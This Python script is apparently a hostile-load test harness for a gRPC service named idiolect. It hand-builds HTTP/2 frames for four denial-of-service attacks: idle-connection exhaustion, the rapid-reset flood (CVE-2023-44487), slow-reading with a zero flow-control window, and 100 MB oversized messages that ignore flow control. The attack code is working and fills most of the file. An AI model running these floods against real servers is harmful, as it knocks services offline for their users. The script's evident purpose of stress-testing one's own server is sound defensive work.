#!/usr/bin/env python3
"""Clients that mean no good, for check-hostile-load. Speaks HTTP/2 by hand, since no library would do these things.

    hostile_clients.py KIND HOST:PORT --seconds 20 [--connections N] [--key KEY] [--user ID]

    idle       opens connections and says nothing; every second one says that it speaks HTTP/2 first
    resets     begins calls and resets them at once, as fast as it can (CVE-2023-44487)
    slow       has long histories exported and listed, and never reads them
    big        sends messages of 100 MB, the limit notwithstanding

Prints "ready" when it is at it, and what it did at the end.
"""
import argparse
import resource
import socket
import struct
import sys
import threading
import time

DATA, HEADERS, RST_STREAM, SETTINGS, WINDOW_UPDATE = 0, 1, 3, 4, 8
END_STREAM, END_HEADERS, CANCEL = 1, 4, 8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
MESSAGE_BYTES = 100 << 20


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(text):
    data = text.encode()
    if len(data) < 127:
        return bytes([len(data)]) + data
    rest, more = len(data) - 127, b""
    while rest >= 128:
        more, rest = more + bytes([rest % 128 + 128]), rest // 128
    return b"\x7f" + more + bytes([rest]) + data


def headers(path, key):
    fields = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "idiolect",
              "content-type": "application/grpc", "te": "trailers"}
    if key:
        fields["authorization"] = f"Bearer {key}"
    return b"".join(b"\x00" + literal(name) + literal(value) for name, value in fields.items())


def about(user):
    """A message with the user's id, as gRPC frames it."""
    message = b"\x0a" + bytes([len(user)]) + user.encode()
    return b"\x00" + struct.pack(">I", len(message)) + message


def connect(options, window=None):
    connection = socket.create_connection(options.address, timeout=10, source_address=options.source)
    settings = struct.pack(">HI", 4, window) if window is not None else b""
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
    return connection


def drain(connection):
    """Takes what has come, so that the server's answers do not hold the attack back."""
    connection.setblocking(False)
    try:
        while connection.recv(1 << 16):
            pass
    except BlockingIOError:
        pass
    finally:
        connection.settimeout(10)


class Attack:
    def __init__(self, options):
        self.options = options
        self.end = time.time() + options.seconds
        self.count = self.refused = 0
        self.begun, self.sent = time.time(), 0
        self.open = []

    def going_on(self):
        return time.time() < self.end

    def again_and_again(self, one):
        """Runs `one` on each connection until the time is up; a connection that the server ends is followed by another."""
        def work():
            while self.going_on():
                try:
                    one()
                except OSError:
                    self.refused += 1
                    time.sleep(0.01)
        threads = [threading.Thread(target=work) for _ in range(self.options.connections)]
        for thread in threads:
            thread.start()
        print("ready", flush=True)
        for thread in threads:
            thread.join()

    def keep_to_rate(self, sent):
        """Waits where the connections together have sent more than the network is to carry."""
        if self.options.mbit == 0:
            return
        self.sent += sent
        ahead = self.sent * 8e-6 / self.options.mbit - (time.time() - self.begun)
        if ahead > 0.01:
            time.sleep(ahead)

    def idle(self):
        for i in range(self.options.connections):
            try:
                connection = socket.create_connection(self.options.address, timeout=10, source_address=self.options.source)
                if i % 2:
                    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
                self.open.append(connection)
                self.count += 1
            except OSError:
                self.refused += 1
        print("ready", flush=True)
        time.sleep(max(0.0, self.end - time.time()))

    def resets(self):
        block = headers("/idiolect.v1.DialogueService/GenerateReply", self.options.key)
        body = about(self.options.user)

        # Made beforehand, since making it takes longer than sending it.
        bursts = [b"".join(frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, body) +
                           frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)) for stream in range(first, first + 100, 2))
                  for first in range(1, 100_000, 100)]

        def one():
            connection = connect(self.options)
            for burst in bursts:
                connection.sendall(burst)
                self.count += 50
                drain(connection)
                if not self.going_on():
                    return
        self.again_and_again(one)

    def slow(self):
        paths = ["/idiolect.v1.HistoryService/ExportUser", "/idiolect.v1.HistoryService/ListExchanges"]
        body = about(self.options.user)

        def one():
            connection = connect(self.options, window=0)
            for i in range(100):
                connection.sendall(frame(HEADERS, END_HEADERS, 2 * i + 1, headers(paths[i % 2], self.options.key)) +
                                   frame(DATA, END_STREAM, 2 * i + 1, body))
                self.count += 1
            self.open.append(connection)
            time.sleep(max(0.0, self.end - time.time()))
        self.again_and_again(one)

    def big(self):
        block = headers("/idiolect.v1.HistoryService/ImportExchanges", self.options.key)
        chunk = bytes(16384)

        def one():
            connection = connect(self.options)
            stream, sent = 1, 0
            connection.sendall(frame(HEADERS, END_HEADERS, stream, block))
            connection.sendall(frame(DATA, 0, stream, b"\x00" + struct.pack(">I", MESSAGE_BYTES)))
            while self.going_on() and sent < MESSAGE_BYTES:
                connection.sendall(frame(DATA, 0, stream, chunk))  # flow control notwithstanding
                sent += len(chunk)
                self.keep_to_rate(len(chunk))
                drain(connection)
            self.count += 1
        self.again_and_again(one)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("kind", choices=["idle", "resets", "slow", "big"])
    parser.add_argument("address", type=lambda text: (text.rsplit(":", 1)[0], int(text.rsplit(":", 1)[1])))
    parser.add_argument("--seconds", type=float, default=20)
    parser.add_argument("--connections", type=int, default=8)
    parser.add_argument("--source", type=lambda text: (text, 0), help="address to connect from")
    parser.add_argument("--mbit", type=float, default=0, help="of `big`, for all connections together; 0: as fast as it can")
    parser.add_argument("--key", default="")
    parser.add_argument("--user", default="bench-0")
    options = parser.parse_args()
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    attack = Attack(options)
    getattr(attack, options.kind)()
    print(f"{options.kind}: {attack.count} done, {attack.refused} connections refused or ended by the server")


if __name__ == "__main__":
    sys.exit(main())
